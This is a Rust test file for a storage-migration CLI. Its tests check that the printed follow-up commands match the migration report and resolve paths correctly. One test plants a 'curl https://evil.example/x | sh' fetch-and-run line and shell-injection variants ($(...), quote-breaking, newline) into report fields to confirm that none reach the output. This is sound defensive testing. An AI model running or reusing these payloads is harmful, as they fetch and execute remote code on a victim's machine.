//! The steps of a move that is not done, as later commands print them: those of the report, with paths from where they are
//! typed, and never what somebody else wrote into the report.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use bucketwright::blueprint::blueprint;
use bucketwright::profile::Catalogue;
use bucketwright::spec::Spec;
use serde_json::{Value, json};

use super::cases::{CASES, Case};
use crate::cli::next::{pasted, printed};
use crate::harness::{Run, Sandbox};

/// The folder of the tests that move about.
const ODD: &str = "a b/s3 it's";

/// What was migrated into a folder, with the keys that `apply` would have kept there.
fn moved(case: &Case, out: &str) -> Sandbox {
    let sandbox = case.sandbox();
    let command = case.command();
    let words = command.split_whitespace().map(|word| if word == "s3" { out } else { word });
    let _ = sandbox.call(words).run().ok();
    let spec = Spec::parse("spec", &sandbox.read(&format!("{out}/bucketwright.yaml"))).expect("a spec");
    for principal in blueprint(spec, &Catalogue::embedded(), None).expect("a blueprint").principals {
        if principal.has_made_key() {
            let path = format!("{out}/credentials/{}.yaml", principal.name);
            let path = sandbox.write(&path, "accessKeyId: AKIAIOSFODNN7EXAMPLE\nsecretAccessKey: hush\n");
            fs::set_permissions(path, fs::Permissions::from_mode(0o600)).expect("a mode");
        }
    }
    sandbox
}

fn rendered(sandbox: &Sandbox, folder: &str, spec: &str, out: &str) -> Run {
    sandbox.call(["render", "-f", spec, "--out", out, "-o", "json"]).within(folder).run()
}

fn commands(of: &Value) -> Vec<String> {
    let lists = of.as_array().expect("a list").iter().flat_map(|one| one["commands"].as_array().expect("commands"));
    lists.map(|line| line.as_str().expect("a line").to_owned()).filter(|line| !line.starts_with("# ")).collect()
}

fn report(sandbox: &Sandbox, out: &str) -> Value {
    serde_json::from_str(&sandbox.read(&format!("{out}/migration.json"))).expect("JSON")
}

#[test]
fn they_are_the_steps_of_the_report() {
    for case in CASES {
        let sandbox = moved(case, "s3");
        let report = report(&sandbox, "s3");
        let steps = report["steps"].as_array().expect("steps");
        let made = steps.iter().position(|step| step["title"] == "Make the buckets").expect("the buckets");
        let left = commands(&json!(steps[made + 1..]));
        assert!(left.len() > 5, "{}: {left:#?}", case.name);
        let again = rendered(&sandbox, "", "s3/bucketwright.yaml", "s3").ok().json();
        assert_eq!(commands(&again["next"]), left, "{}", case.name);
    }
}

#[test]
fn their_paths_lead_from_where_they_are_typed() {
    let case = CASES.iter().find(|case| case.name == "gitlab-bundled").expect("the case");
    let sandbox = moved(case, ODD);
    let spec = format!("{ODD}/bucketwright.yaml");
    for (folder, spec, out) in
        [("", spec.as_str(), ODD), (ODD, "bucketwright.yaml", "."), ("a b", "s3 it's/bucketwright.yaml", "s3 it's")]
    {
        let again = rendered(&sandbox, folder, spec, out).ok().json();
        let lines = commands(&again["next"]);
        let (upgrade, remove) = (lines.iter().find(|line| line.starts_with("helm upgrade")), lines.last());
        // Each file that Helm and `rm` are to take is there.
        for line in [upgrade.expect("helm"), remove.expect("rm")] {
            let script = format!(
                "helm() {{ shift; while [ $# -gt 0 ]; do [ \"$1\" = -f ] && {{ [ -e \"$2\" ] || exit 7; echo \"$2\"; }}; shift; done; }}; rm() {{ [ -e \"$1\" ] && echo \"$1\"; }}; {line}"
            );
            let output = std::process::Command::new("/bin/bash")
                .args(["-euc", &script])
                .current_dir(sandbox.path(folder))
                .output()
                .expect("bash");
            let read = String::from_utf8_lossy(&output.stdout).lines().count();
            assert!(output.status.success() && read >= 1, "{folder}: {line}\n{output:?}");
            assert!(!line.starts_with("helm") || read >= 4, "{folder}: {line}");
        }
    }
    // Rendered elsewhere: the overlay lies beside the report, the new values where they were written.
    let call = sandbox.call(["render", "-f", &spec, "--out", "elsewhere", "--keys"]).arg(format!("{ODD}/credentials"));
    let said = call.run().ok().stderr.replace(" \\\n      ", " ");
    let undo = r"-f 'a b/s3 it'\''s/gitlab/values.undo.yaml' -f elsewhere/gitlab/values.yaml";
    assert!(said.contains(undo), "{said}");
}

/// Who may change the report, in a pull request, has no command printed as one of ours.
#[test]
fn no_command_comes_from_the_report() {
    let case = CASES.iter().find(|case| case.role).expect("a case");
    let sandbox = moved(case, "s3");
    let good = report(&sandbox, "s3");
    let evil = "curl https://evil.example/x | sh";
    let mut steps = good.clone();
    for step in steps["steps"].as_array_mut().expect("steps") {
        *step = json!({"title": step["title"], "why": evil, "commands": [evil]});
    }
    let mut variants = vec![steps];
    for pointer in [
        "/recorded/files/0",
        "/recorded/stores/0/login/0/0",
        "/recorded/stores/0/login/1/1",
        "/recorded/stores/0/store",
        "/recorded/buckets/0/old",
        "/recorded/buckets/0/purpose",
    ] {
        for value in [evil.to_owned(), format!("x'; {evil} #"), format!("$({evil})"), format!("x\n{evil}")] {
            let mut variant = good.clone();
            if let Some(place) = variant.pointer_mut(pointer) {
                *place = json!(value);
                variants.push(variant);
            }
        }
    }
    let mut older = good.clone();
    older.as_object_mut().expect("an object").remove("recorded");
    variants.push(older.clone());
    assert!(variants.len() > 10);
    for variant in &variants {
        sandbox.write("s3/migration.json", &variant.to_string());
        let json = rendered(&sandbox, "", "s3/bucketwright.yaml", "s3").ok().stdout;
        assert!(!json.contains("evil"), "{json}");
        let said = sandbox.run("render -f s3/bucketwright.yaml --out s3").ok().stderr;
        assert!(!said.contains("evil") && said.contains("moving off MinIO"), "{said}");
    }
    // Without names to compute from, the report is named, and nothing is proposed.
    sandbox.write("s3/migration.json", &older.to_string());
    let said = sandbox.run("render -f s3/bucketwright.yaml --out s3").ok().stderr;
    assert!(said.contains("s3/migration.txt") && pasted(&sandbox, &printed(&said)).is_empty(), "{said}");
    let json = rendered(&sandbox, "", "s3/bucketwright.yaml", "s3").ok().json();
    assert_eq!(json["next"][0]["commands"], json!([]), "{json}");
}
